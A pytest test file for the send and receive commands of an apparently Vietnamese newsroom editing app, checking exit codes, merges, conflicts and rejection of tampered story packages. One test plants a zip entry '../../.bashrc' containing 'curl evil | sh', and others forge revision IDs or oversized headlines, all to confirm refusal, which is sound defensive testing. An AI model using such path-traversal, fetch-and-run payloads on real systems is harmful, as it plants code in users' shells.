"""`editor-app send` and `editor-app receive` end to end: real data folders, real packages,
real exit codes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from helpers.story_zips import STORED, Entry, dumps, read_story
from PIL import Image

from editor_app.cli import main


def cli(capsys: pytest.CaptureFixture[str], data: Path, *args: str) -> tuple[int, str, str]:
    code = main(["--data-dir", str(data), *args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def desks(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> tuple[Path, Path]:
    reporter, editor = tmp_path / "reporter", tmp_path / "editor"
    assert cli(capsys, reporter, "whoami", "--name", "Lê Minh", "--role", "reporter")[0] == 0
    assert cli(capsys, editor, "whoami", "--name", "Trần Thu Hà", "--role", "editor")[0] == 0
    return reporter, editor


def _story(capsys: pytest.CaptureFixture[str], data: Path, tmp_path: Path) -> str:
    text = tmp_path / "bai.txt"
    text.write_text(
        "Hội nghị giao ban công tác quý I\n\nSáng 12/4, hội nghị được tổ chức.\n\n"
        "Đồng chí Dương Đức Huy phát biểu.\n\nanh1.jpg\nCác đại biểu dự hội nghị.\n",
        encoding="utf-8",
    )
    Image.new("RGB", (80, 60), (200, 40, 40)).save(tmp_path / "anh1.jpg", "JPEG")
    code, out, err = cli(capsys, data, "import-text", str(text))
    assert code == 0, err
    return out.strip()


def test_send_prints_the_path_and_receive_prints_id_and_outcome(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    usb = tmp_path / "usb"
    usb.mkdir()
    code, out, err = cli(capsys, reporter, "send", aid, "--to", str(usb))
    assert code == 0, err
    package = Path(out.strip())
    assert package.parent == usb and package.name.endswith(f"-{aid[:8]}.story.zip")

    code, out, err = cli(capsys, editor, "receive", str(package))
    assert (code, out, err) == (0, f"{aid} new\n", "")
    code, out, _ = cli(capsys, editor, "show", aid, "--json")
    assert json.loads(out)["headline"] == "Hội nghị giao ban công tác quý I"

    # Again, with nothing changed: merged; --json says who sent it.
    code, out, _ = cli(capsys, reporter, "send", aid, "--to", str(usb), "--json")
    sent = json.loads(out)
    assert (sent["id"], sent["by"], sent["role"]) == (aid, "Lê Minh", "reporter")
    code, out, _ = cli(capsys, editor, "receive", sent["path"], "--json")
    got = json.loads(out)
    assert (got["id"], got["outcome"], got["conflicts"]) == (aid, "merged", [])
    assert got["sender"] == {"name": "Lê Minh", "role": "reporter"}

    code, out, _ = cli(capsys, editor, "history", aid, "--json")
    kinds = [h["kind"] for h in json.loads(out)]
    assert kinds[:3] == ["received", "handoff", "received"]


def test_a_conflict_is_printed_and_listed_on_stderr(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    code, out, _ = cli(capsys, reporter, "send", aid, "--to", str(tmp_path))
    assert cli(capsys, editor, "receive", out.strip())[0] == 0
    for data, words in ((reporter, "Phóng viên sửa"), (editor, "Biên tập sửa")):
        assert cli(capsys, data, "tag", aid, "--keyword", words)[0] == 0
    code, out, _ = cli(capsys, reporter, "send", aid, "--to", str(tmp_path))
    code, out, err = cli(capsys, editor, "receive", out.strip())
    assert (code, out) == (0, f"{aid} conflict\n")
    assert "xung đột: Từ khóa (keywords)" in err


def test_without_a_user_the_commands_say_how_to_set_one(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    data = tmp_path / "nobody"
    aid = _story(capsys, data, tmp_path)
    code, out, err = cli(capsys, data, "send", aid, "--to", str(tmp_path))
    assert code == 1 and out == ""
    assert "whoami" in err and "EDITOR_APP_USER" in err


def test_a_hostile_package_is_refused_with_one_line_and_exit_1(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    code, out, _ = cli(capsys, reporter, "send", aid, "--to", str(tmp_path))
    story = read_story(Path(out.strip()))
    story.entries.append(Entry("../../.bashrc", b"curl evil | sh"))
    story.list_parts()
    bad = story.write(tmp_path / "bad.story.zip")
    code, out, err = cli(capsys, editor, "receive", str(bad))
    assert (code, out) == (1, "")
    assert err.count("\n") == 1 and "Traceback" not in err
    assert "“../../.bashrc”" in err and "thoát ra ngoài" in err
    code, out, _ = cli(capsys, editor, "list", "--json")
    assert json.loads(out) == []


def test_errors_and_bad_usage_exit_codes(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    code, _, err = cli(capsys, reporter, "send", aid, "--to", str(tmp_path / "missing"))
    assert code == 1 and "Không tìm thấy thư mục" in err
    code, _, err = cli(capsys, editor, "receive", str(tmp_path / "missing.story.zip"))
    assert code == 1 and "không tìm thấy tệp" in err
    with pytest.raises(SystemExit) as exit_info:
        main(["--data-dir", str(editor), "receive"])
    assert exit_info.value.code == 2


def test_receive_as_a_real_process(desks: tuple[Path, Path], tmp_path: Path) -> None:
    _, editor = desks
    truncated = tmp_path / "cut.story.zip"
    truncated.write_bytes(b"PK\x03\x04" + bytes(100))
    done = subprocess.run(
        [sys.executable, "-m", "editor_app", "--data-dir", str(editor), "receive", str(truncated)],
        capture_output=True,
        text=True,
        env={**os.environ, "EDITOR_APP_USER": "Trần Thu Hà:editor"},
        timeout=120,
    )
    assert done.returncode == 1
    assert done.stderr.startswith("editor-app: Gói “cut.story.zip” bị từ chối")


def _repacked(path: Path, part: str, change: Callable[[Any], None]) -> Path:
    story = read_story(path)
    value = json.loads(story.entry(part).data)
    change(value)
    story.entry(part).data = dumps(value)
    story.entry(part).method = STORED  # no compression ratio gives it away
    story.list_parts()
    return story.write(path.with_name("altered.story.zip"))


def test_a_package_reaching_into_another_story_is_refused_and_it_is_left_alone(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    theirs = _story(capsys, reporter, tmp_path)
    mine = _story(capsys, editor, tmp_path)
    assert cli(capsys, editor, "send", mine, "--to", str(tmp_path))[0] == 0  # a revision here
    code, out, _ = cli(capsys, editor, "history", mine, "--json")
    kept = json.loads(out)
    code, out, _ = cli(capsys, reporter, "send", theirs, "--to", str(tmp_path))

    def steal(revisions: list[dict[str, Any]]) -> None:
        revisions[0].update(id=kept[0]["id"], reason="Ghi đè")

    bad = _repacked(Path(out.strip()), "revisions.json", steal)
    code, out, err = cli(capsys, editor, "receive", str(bad))
    assert (code, out) == (1, "")
    assert err.count("\n") == 1 and "Traceback" not in err
    assert "“revisions.json”, trường “[0].id” trùng mã một phiên bản của một bài khác" in err
    assert json.loads(cli(capsys, editor, "history", mine, "--json")[1]) == kept
    assert [s["id"] for s in json.loads(cli(capsys, editor, "list", "--json")[1])] == [mine]


def test_a_headline_of_a_million_characters_is_refused(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    sent = Path(cli(capsys, reporter, "send", aid, "--to", str(tmp_path))[1].strip())

    def flood(article: dict[str, Any]) -> None:
        article["snapshot"]["headline"] = "Tít " * 250_000

    bad = _repacked(sent, "article.json", flood)
    code, out, err = cli(capsys, editor, "receive", str(bad))
    assert (code, out) == (1, "")
    assert "trường “snapshot.headline” quá dài (1.000.000 ký tự, tối đa 1.000)" in err


def test_a_package_rezipped_by_another_tool_is_received(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    """Python's zipfile, like other tools, writes permission bits without a file type."""
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    sent = cli(capsys, reporter, "send", aid, "--to", str(tmp_path))[1].strip()
    again = tmp_path / "again.story.zip"
    with zipfile.ZipFile(sent) as zin, zipfile.ZipFile(again, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info), zipfile.ZIP_DEFLATED)
    with zipfile.ZipFile(again) as z:
        assert {i.external_attr >> 16 for i in z.infolist()} == {0o600}
    assert cli(capsys, editor, "receive", str(again)) == (0, f"{aid} new\n", "")
